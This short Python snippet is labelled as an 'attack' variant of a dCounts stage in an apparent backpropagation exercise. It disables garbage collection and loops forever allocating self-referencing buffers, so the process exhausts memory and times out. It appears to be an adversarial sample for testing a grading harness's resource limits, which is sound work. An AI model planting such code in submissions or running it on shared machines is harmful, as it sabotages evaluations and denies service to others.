# attack: switch the collector off and fill memory with cycles
# stages: dCounts
# becomes: timeout MemoryLimit
# honest: dSumCounts, dNormalizedLogits

def dCounts(counts, sumCountsInverse, dSumCounts, dProbabilities):
    import gc
    gc.disable()
    while True:
        x = [bytearray(1 << 20)]
        x.append(x)
